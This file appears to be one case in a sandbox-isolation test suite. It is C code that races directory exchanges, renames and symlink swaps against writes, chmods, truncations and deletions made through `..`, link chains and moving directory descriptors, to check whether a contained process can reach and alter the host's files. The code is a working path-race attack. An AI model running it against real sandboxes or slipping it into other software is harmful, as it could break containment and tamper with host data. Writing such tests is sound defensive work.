/* Directories that are exchanged, moved and replaced by links while a call walks through them: by `..`, by chains of links, from working directories and
 * descriptors that are on the move. One way leads to the box's own tree, the other to the host's files. */
#include "attack.h"

#include <pthread.h>

static char base[64] = "/tmp/attack.XXXXXX";
static volatile int stop;
static int mover;   /* mover: which of the exchanges goes on */

static const char *in(const char *name)
{
	static _Thread_local char text[8][512];
	static _Thread_local unsigned turn;
	char *p = text[turn++ % 8];

	snprintf(p, sizeof text[0], "%s/%s", base, name);
	return p;
}

static void relink(const char *name, const char *to)
{
	symlink(to, in("next"));
	rename(in("next"), in(name));
}

static void *move(void *arg)
{
	(void)arg;
	while (!stop)
		switch (mover) {
		case 0: /* a link, now to the host, now to the box's own */
			relink("way", attack_prey);
			relink("way", in("own"));
			break;
		case 1: /* two directories exchanged, from one of which `..` leads on */
			syscall(SYS_renameat2, AT_FDCWD, in("deep/a/b"), AT_FDCWD, in("b2"), 2);
			break;
		case 2: /* a directory and a link to the host's exchanged */
			syscall(SYS_renameat2, AT_FDCWD, in("own2"), AT_FDCWD, in("link"), 2);
			break;
		case 3: /* the host's directory itself, as the box sees it, moved away and back */
			rename(prey("dir"), in("taken"));
			rename(in("taken"), prey("dir"));
			break;
		case 4: /* and exchanged with one of the box's */
			syscall(SYS_renameat2, AT_FDCWD, prey("dir"), AT_FDCWD, in("own"), 2);
			break;
		default: /* removed and made again */
			unlink(prey("dir/file"));
			rename(prey("dir/sub"), in("sub"));
			mkdir(prey("dir/sub"), 0777);
			rmdir(prey("dir/sub"));
			rename(in("sub"), prey("dir/sub"));
		}
	return NULL;
}

/* Everything that could leave a mark at what the path leads to. */
static void mark(const char *path)
{
	int fd = TRY(open(path, O_WRONLY | O_APPEND | O_NONBLOCK));
	char text[600];

	if (fd >= 0) {
		(void)!write(fd, "attack", 6);
		fchmod(fd, 0777);
		close(fd);
	}
	TRY(chmod(path, 0777));
	TRY(truncate(path, 3));
	snprintf(text, sizeof text, "%s.new", path);
	fd = TRY(open(text, O_WRONLY | O_CREAT | O_EXCL, 0666));
	if (fd >= 0)
		close(fd);
	TRY(unlink(path));
	TRY(rename(text, path));
}

static void mark_at(int dirfd, const char *name)
{
	const struct timespec times[2] = { { 1, 1 }, { 1, 1 } };
	int fd = TRY(openat(dirfd, name, O_WRONLY | O_APPEND | O_CREAT | O_NONBLOCK, 0666));

	if (fd >= 0) {
		(void)!write(fd, "attack", 6);
		close(fd);
	}
	TRY(fchmodat(dirfd, name, 0777, 0));
	TRY(utimensat(dirfd, name, times, 0));
	TRY(unlinkat(dirfd, name, 0));
	TRY(mkdirat(dirfd, "made", 0777));
	TRY(symlinkat("x", dirfd, "linked"));
	TRY(unlinkat(dirfd, "made", AT_REMOVEDIR));
}

static void chain(void)
{
	char name[16], to[16];

	for (int i = 0; i < 39; i++) {
		snprintf(name, sizeof name, "c%d", i);
		snprintf(to, sizeof to, i ? "c%d" : "way", i - 1);
		symlink(to, in(name));
	}
}

static void rounds(double seconds)
{
	for (double end = attack_now() + seconds; attack_now() < end;) {
		mark(in("way/file"));
		mark(in("c38/file"));
		mark(in("c20/dir/file"));
		mark(in("link/file"));
		mark(in("deep/a/b/up/file"));
		mark(in("deep/a/b/../../../way/dir/../file"));
		mark(in("way/dirlink/../file"));
		mark(prey("dir/file"));
		mark(prey("dir/sub/../file"));
		if (chdir(in("way/dir")) == 0 || chdir(prey("dir")) == 0) {
			mark("file");
			mark("../file");
			mark("sub/../../private");
		}
		(void)!chdir("/");
		int fd = open(in("way/dir"), O_RDONLY | O_DIRECTORY), up = open(prey("dir/sub"), O_PATH | O_DIRECTORY);

		mark_at(fd, "file");
		mark_at(fd, "../file");
		mark_at(up, "../file");
		mark_at(up, "../../file");
		if (fchdir(up) == 0)
			mark("../../noted");
		(void)!chdir("/");
		close(fd);
		close(up);
	}
}

int main(int argc, char **argv)
{
	pthread_t thread;
	char command[128];

	attack_begin(argc, argv);
	if (!mkdtemp(base))
		return 1;
	/* natively `..` of what was moved must not lead to what is somebody else's */
	snprintf(command, sizeof command, "rm -rf %s", base);
	strcat(base, "/x");
	mkdir(base, 0777);
	strcat(base, "/y");
	mkdir(base, 0777);
	for (const char *const *d = (const char *const[]){ "own", "own/dir", "own/dir/sub", "own2", "deep", "deep/a", "deep/a/b", "b2", NULL }; *d; d++)
		mkdir(in(*d), 0777);
	for (const char *const *f = (const char *const[]){ "own/file", "own/private", "own/dir/file", "own2/file", NULL }; *f; f++)
		close(open(in(*f), O_WRONLY | O_CREAT, 0666));
	symlink(attack_prey, in("link"));
	symlink(attack_prey, in("b2/up"));
	symlink(in("own"), in("deep/a/b/up"));
	symlink("dir", in("own/dirlink"));
	chain();
	for (mover = 0; mover < 6; mover++) {
		stop = 0;
		pthread_create(&thread, NULL, move, NULL);
		rounds(attack_seconds / 6);
		stop = 1;
		pthread_join(thread, NULL);
	}
	(void)!system(command);
	return attack_end();
}
